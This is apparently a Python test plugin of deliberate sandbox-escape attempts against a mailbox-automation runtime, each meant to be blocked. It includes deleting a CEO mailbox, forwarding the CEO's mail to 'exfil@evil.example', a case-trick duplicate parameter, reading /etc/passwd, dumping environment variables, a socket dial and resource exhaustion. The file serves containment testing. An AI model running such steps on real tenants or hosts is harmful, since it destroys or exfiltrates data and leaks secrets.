"""Each attack tries one way out of the sandbox from Python. Attacks whose
containment the plugin can observe (a denied call, a failed open) report
what they saw, so the test asserts the exact answer; attacks on the host's
limits simply never finish on their own.

Every module is imported here, at the top: the build runs this module once
and snapshots the interpreter, and at run time there is no file system to
import from (which is itself part of the containment).
"""

import os
import sys

import exorun
from exorun import inputs

try:
    import socket
except ImportError as e:  # a CPython build without sockets: nothing to dial with
    socket = None
    SOCKET_IMPORT_ERROR = f"{type(e).__name__}: {e}"


@exorun.automation
def run() -> str:
    attack = inputs.text("attack", "")
    match attack:
        case "undeclared-cmdlet":
            exorun.invoke("Remove-Mailbox", Identity="ceo@contoso.com")
        case "value-outside-set":
            exorun.invoke(
                "Set-Mailbox", Identity="ceo@contoso.com", ForwardingSmtpAddress="exfil@evil.example"
            )
        case "value-outside-pattern":
            exorun.invoke("Set-Mailbox", Identity="ceo@fabrikam.com", ForwardingSmtpAddress=None)
        case "unlisted-parameter":
            exorun.invoke("Get-Mailbox", Filter="Name -like '*'")
        case "duplicate-parameter":
            # Python keywords are distinct when their case differs; PowerShell's are not.
            exorun.invoke("Set-Mailbox", **{"Identity": "ann@contoso.com", "IDENTITY": "ceo@fabrikam.com"})
        case "call-budget":
            i = 0
            while True:
                try:
                    exorun.invoke("Get-Mailbox", Identity=f"user{i}")
                except exorun.NotFound:
                    pass  # a real tenant has no user0; the budget is the point
                i += 1
        case "file-read":
            return file_read()
        case "env":
            return f"environ: {dict(os.environ)}; argv: {sys.argv}"
        case "network":
            return network(inputs.integer("port", 9))
        case "infinite-loop":
            n = 0
            while True:
                n += 1
        case "memory-growth":
            hoard: list[bytearray] = []
            while True:
                hoard.append(bytearray(b"\x01" * (1 << 20)))
        case "stdout-flood":
            line = "x" * 1024
            while True:
                print(line)
        case "huge-output":
            return "y" * (24 << 20)
        case "trap":
            print("hostile plugin aborts on purpose", file=sys.stderr, flush=True)
            os.abort()
        case other:
            raise exorun.AutomationError(f"unknown attack '{other}'")
    return "the attack was not stopped"


def file_read() -> str:
    """Tries a host file, the root folder, the working folder and every
    folder the interpreter imported from at build time."""

    def attempt(action) -> str:
        try:
            action()
            return "read"
        except OSError as e:
            return type(e).__name__

    etc = attempt(lambda: open("/etc/passwd").read())
    root = attempt(lambda: os.listdir("/"))
    cwd = attempt(lambda: os.listdir("."))
    readable = [p for p in sys.path if attempt(lambda p=p: os.listdir(p)) == "read"]
    return f"etc: {etc}; root: {root}; cwd: {cwd}; import path readable: {readable}"


def network(port: int) -> str:
    """Dials a loopback port the test listens on, by address: a name would
    need a lookup, which is refused too, but is not what this attack tests."""
    if socket is None:
        return f"connect: {SOCKET_IMPORT_ERROR}"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect(("127.0.0.1", port))
            return "connect: connected"
    except OSError as e:
        return f"connect: {type(e).__name__}: {e}"

